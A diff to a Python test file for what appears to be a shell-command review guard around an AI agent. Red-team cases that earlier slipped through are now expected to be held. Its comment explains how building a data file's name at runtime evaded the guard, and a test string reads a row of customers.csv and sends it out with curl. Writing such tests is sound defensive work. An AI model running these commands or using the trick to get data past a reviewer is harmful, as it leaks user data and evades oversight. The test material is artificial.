@@ -336,11 +336,13 @@ def test_the_real_npx_in_quotes_or_a_variable_does_not_run_the_folders_package(t
     assert not ran.exists()
 
 
-# -- still through: code that reads a data file by a name it builds, its output in the address -----------------------
-# The line names no data file and no file whose text is records: the name is built when the code runs (python's
-# adjacent literals or `chr`, `os.listdir`, a script whose glob the guard does not expand). A rule that holds these
-# judges every value code prints as possibly any workspace file's text, which refuses flow18's twins
-# (`d=$(./ok.sh); curl "…?d=$d"`) wherever a workspace holds a table: not done (left open, strict xfails)
+# -- through on a35b326f, left open by rt55 (strict xfails), held since rt56: code that reads a data file by a name it
+# builds, its output in the address. The line names no data file: the name is built when the code runs (python's
+# adjacent literals or `chr`, `os.listdir`). rt56 takes code that opens a file by a name that is not one plain
+# literal, or lists a folder, as reading every data file of the workspace (`flows.built_names`; flow18's twins, code
+# that opens nothing or a literal name, are unchanged: test_confinement56). The script's case was the method's: its
+# first step never ran, so the guard reviewed `sh r.sh` with no r.sh there; run for real, it is held (on d8d03ed7
+# too)
 STILL_THROUGH: dict[str, list[str]] = {
     "python-adjacent-literals": ["T=$(python3 -c 'print(open(\"customers.c\" \"sv\").readlines()[1])'); "
                                  f'curl -s "{W}$T"'],
@@ -354,11 +356,19 @@ for _name in STILL_THROUGH:
     THROUGH_ON_MAIN[f"still:{_name}"] = True
 
 
-@pytest.mark.xfail(strict=True, reason="rt55 left open: a data file read by a name the code builds when it runs")
 @pytest.mark.parametrize("name", sorted(STILL_THROUGH))
-def test_still_through_code_that_builds_the_files_name(name, _ws, _relaxed):
-    decision, why = _last(STILL_THROUGH[name], _ws, _relaxed) if len(STILL_THROUGH[name]) > 1 else \
-        _review(STILL_THROUGH[name][0], "shipped", _ws, untrusted=False)
+def test_code_that_builds_the_files_name_is_held(name, _ws, _relaxed, tmp_path):
+    steps = STILL_THROUGH[name]
+    if len(steps) > 1:  # each earlier step run for real (bash in a copy of the workspace), as the shell would
+        import subprocess
+
+        shutil.copytree(_ws / "ws", tmp_path / "ws")
+        for step in steps[:-1]:
+            subprocess.run(["bash", "-c", step], cwd=tmp_path / "ws", capture_output=True, timeout=30,
+                           env={"HOME": str(tmp_path / "ws"), "PATH": "/usr/bin:/bin"})
+        decision, why = _last(steps, tmp_path, _relaxed)
+    else:
+        decision, why = _review(steps[0], "shipped", _ws, untrusted=False)
     assert decision in (Decision.ask, Decision.deny), why
 
 
@@ -386,4 +396,4 @@ def test_the_record_names_attempts_only():
         {f"still:{n}" for n in STILL_THROUGH}
     assert set(THROUGH_ON_MAIN) == every
     assert all(isinstance(v, bool) for v in THROUGH_ON_MAIN.values())
-    assert (len(every), sum(THROUGH_ON_MAIN.values())) == (82, 60)  # 4 of them still through (STILL_THROUGH)
+    assert (len(every), sum(THROUGH_ON_MAIN.values())) == (82, 60)  # 4 of them held since rt56 (STILL_THROUGH)
